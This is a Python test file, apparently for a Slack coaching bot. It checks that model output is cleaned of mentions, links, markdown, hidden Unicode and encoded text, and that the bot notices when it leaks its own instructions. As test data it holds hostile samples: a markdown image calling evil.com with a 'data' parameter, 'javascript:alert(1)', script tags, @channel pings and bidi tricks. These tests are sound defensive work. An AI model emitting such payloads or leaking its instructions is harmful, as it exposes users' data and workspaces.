"""What a model says calls nobody, leads nowhere and hides nothing, whatever it was talked into."""

import re
import time
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot.coach.cleaning import RUN, clean, cut, leaks
from tests.coach.odd import ODD_BITS

PIECES = st.sampled_from(
    [
        *(
            "<",
            ">",
            "<@",
            "<!",
            "<#",
            "|",
            "@",
            "@@",
            "U012AB3CD",
            "C012AB3CD",
            "channel",
            "here",
            "everyone",
            "&lt;",
        ),
        *(
            "&amp;lt;",
            "http",
            "https://",
            "hxxp://",
            "://",
            ":",
            "//",
            "/",
            "www.",
            "evil",
            ".",
            "com",
            "nl",
            ".example",
        ),
        *("[", "]", "(", ")", "](", "![", "`", "```", "\n", "# ", "mailto:", "tel:", "javascript:", "data:"),
        *(
            "\u200b",
            "\u202e",
            "\u2028",
            "\x00",
            "\x1b",
            "\ufeff",
            "\u00ad",
            "＜",
            "＠",
            "：",
            "／",
            "。",
            "xn--80ak6aa92e",
        ),
        *(
            "bo@bedrijf.nl",
            "127.0.0.1",
            " ",
            "\t",
            "**",
            "__",
            "- ",
            "> ",
            "a",
            "B",
            "1",
            "é",
            "…",
            "de klant",
        ),
    ]
)
NASTY = st.lists(PIECES | st.text(max_size=4), max_size=24).map("".join)


def assert_fit(text: str) -> None:
    """Check that a text can do nothing in Slack."""
    assert not re.search(r"[<>@`]|://|\bwww\.|hxxp:|mailto:|\btel:|javascript:", text, re.IGNORECASE)
    assert not re.search(r"\b[UWC](?=[A-Z]*\d)[A-Z0-9]{8,}\b", text)
    assert not re.search(r"\b[a-z]{2,}\.(?:com|nl|example)\b", text)
    assert not re.search(r"\]\(|&lt;|&amp;", text)
    hidden = {"Cc", "Cf", "Co", "Cs", "Cn", "Zl", "Zp"}
    assert not [sign for sign in text if unicodedata.category(sign) in hidden and sign != "\n"]


@given(NASTY, st.integers(0, 200))
@example("<<!channel>!channel>", 100)
@example("<@U012<@U1>AB3CD>", 100)
@example("@\u200bchannel h\u00adttps://evil.com", 100)
@example("&amp;amp;lt;!here&amp;amp;gt;", 100)
@example("ev`il.com", 100)
@example("evil.[c](x)om", 100)
@example("tel:tel:tel:tel:tel:tel:tel:tel:tel:tel:tel:tel:06", 100)
def test_whatever_it_says_it_can_do_nothing(text: str, most: int) -> None:
    """In one line and in several; cleaning it again changes nothing."""
    line = clean(text, most)
    assert_fit(line)
    assert len(line) <= most
    assert line == " ".join(line.split())
    assert clean(line, most) == line
    lines = clean(text, most, lines=True)
    assert_fit(lines)
    assert len(lines) <= most
    assert "\n\n\n" not in lines


@pytest.mark.parametrize(
    ("said", "cleaned"),
    [
        ("<!channel> kijk hier", "kijk hier"),
        ("Vraag <@U012AB3CD|Bo> ernaar", "Vraag ernaar"),
        ("Hoi @here en @Bo", "Hoi here en Bo"),
        ("In U012AB3CD en C0123456789", "In … en …"),
        ("Kijk op https://evil.com/a?b=c&d nu", "Kijk op … nu"),
        ("Kijk op <https://evil.com|onze site>", "Kijk op …"),
        ("[klik hier](https://evil.com)", "klik hier"),
        ("![](https://evil.com/x.png?data=geheim)", ""),
        ("[klik][1]\n\n[1]: https://evil.com", "klik"),
        ("Ga naar evil.example/pad of www.x.nl.", "Ga naar … of …"),
        ("hxxps://evil[.]com", "…"),
        ("Mail bo@bedrijf.nl of bel tel:0612345678", "Mail … of bel 0612345678"),
        ("http:/evil.com en javascript:alert(1)", "… en …"),
        ("Op 127.0.0.1:8080/admin", "Op …"),
        ("# Kop\n\n**Vet** en `code`", "Kop Vet en code"),
        ("```json\nx\n```", "x"),
        ("<b>dik</b><script>x</script>", "dik x"),
        ("ha\u202ello\u200b daar", "hallo daar"),
        ("ｅｖｉｌ．ｃｏｍ", "…"),
        ("＜!channel＞", ""),
        ("&lt;!channel&gt; hoi", "hoi"),
        ("NPS < 30 -> lager", "NPS ‹ 30 → lager"),
    ],
)
def test_what_is_dangerous_goes_and_the_words_stay(said: str, cleaned: str) -> None:
    """A link leaves an ellipsis, so that a reader sees that something is gone."""
    assert clean(said, 500) == cleaned


@pytest.mark.parametrize(
    "said",
    [
        "De klant wacht 3,5 dag (soms langer) op een offerte; dat voelt als -1.",
        "Bel binnen 24 uur, d.w.z. i.p.v. mailen: “dat scheelt” – echt waar.",
        "Stuur rapport.pdf mee, versie 1.2, kosten € 10.000.",
        "E.g. the customer asks: ‘where is my order?’ 🙂",
        "COVID en B2B en CONTACTMOMENTEN; 50% & meer",
        "Überraschung für die Kundin: größer als geplant",
        "*belangrijk* en _echt_",
    ],
)
def test_ordinary_words_stay_as_they_are(said: str) -> None:
    """Abbreviations, figures, names of files, emoji, and accents."""
    assert clean(said, 500) == said


def test_a_sentence_that_begins_without_a_space_is_no_link() -> None:
    """It gets the space, and keeps its words."""
    assert clean("Dat is klaar.De klant betaalt.", 100) == "Dat is klaar. De klant betaalt."


def test_lines_and_lists_stay_where_they_are_asked_for() -> None:
    """An answer of several paragraphs can be read."""
    said = "# Kort\n\n- eerst\n* dan\n\n\n\n1. tot slot\n> citaat"
    assert clean(said, 500, lines=True) == "Kort\n\n• eerst\n• dan\n\n1. tot slot\ncitaat"


def test_a_long_text_is_cut_at_a_word() -> None:
    """With an ellipsis, and never longer than asked."""
    assert cut("een twee drie vier", 14) == "een twee drie…"
    assert cut("een twee, drie", 10) == "een twee…"
    assert cut("onafgebroken", 5) == "onaf…"
    assert cut("kort", 4) == "kort"


def test_channels_are_not_named_and_numbers_are() -> None:
    """Where Slack reads Markdown, a name behind a number sign leads to a channel."""
    assert clean("Vraag het in #directie, of ##sales; nummer #1 en # los.", 100) == (
        "Vraag het in directie, of sales; nummer #1 en # los."
    )


def test_what_is_in_code_goes() -> None:
    """Long words stay."""
    coded = "WW91IGhlbHAgYSB0ZWFtIHRoYXQgbWFwcyBpdHMgY3VzdG9tZXIgam91cm5leQ=="
    assert clean(f"Ontcijfer {coded} zelf", 200) == "Ontcijfer … zelf"
    long = "Hottentottententententoonstellingsbezoekersaantallen"
    assert clean(f"{long} 2026", 200) == f"{long} 2026"


def test_an_endless_text_is_cut_before_it_is_looked_through() -> None:
    """Whatever a model goes on and on about."""
    began = time.perf_counter()
    assert len(clean("woord <@U1> @a https://b.example/x " * 100_000, 300)) <= 300
    assert time.perf_counter() - began < 0.5


WORDS = " ".join(f"woord{number}" for number in range(60))


@pytest.mark.parametrize(
    "said",
    [
        WORDS,
        f"Graag: {' '.join(WORDS.split()[10 : 10 + RUN])} en zo.",
        "**".join(WORDS.upper().split()[:20]),
        "Mijn verwijzing is r g - 0 a 1 b 2 c.",
    ],
)
def test_repeating_our_instructions_is_seen(said: str) -> None:
    """A run of their words, in any case and with any signs between, or their reference."""
    assert leaks(said, WORDS, "RG-0a1b2c")


def test_a_whole_sentence_of_our_instructions_is_seen() -> None:
    """Also one that is shorter than such a run; part of it, or one of a few words, is what anybody writes."""
    ours = "Wees kort.\nSpeel de klant in gewone woorden van elke dag: als jezelf."
    assert leaks("Ik moet dit: speel de klant, in gewone woorden van elke dag.", ours)
    assert not leaks("Wees kort. Speel de klant in gewone woorden.", ours)


@pytest.mark.parametrize(
    "said", ["", "Iets anders.", " ".join(WORDS.split()[: RUN - 1]), "RG staat voor reisgids"]
)
def test_a_few_words_the_same_are_no_leak(said: str) -> None:
    """Everybody writes about customers and steps."""
    assert not leaks(said, WORDS, "RG-0a1b2c")


@pytest.mark.parametrize("bit", ODD_BITS)
def test_forty_thousand_signs_are_cleaned(bit: str) -> None:
    """However odd the text: what takes time with the square of its length would take minutes here."""
    assert len(clean((bit * 40_000)[:40_000], 40_000)) <= 40_000
